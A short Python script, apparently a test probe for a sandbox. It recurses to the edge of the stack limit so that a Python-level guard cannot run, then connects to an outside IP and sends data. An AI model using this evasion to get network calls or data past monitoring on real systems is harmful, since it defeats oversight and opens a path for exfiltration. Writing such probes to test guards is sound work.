"""The call is made where the stack is almost full, so that a guard written in Python cannot run."""
import socket
import sys

client = socket.socket()


def deeper():
    try:
        deeper()
    except RecursionError:
        pass
    try:
        client.connect(("93.184.216.35", 9000))
        client.send(b"data")
        raise SystemExit(0)
    except (OSError, RecursionError):
        pass


sys.setrecursionlimit(200)
deeper()
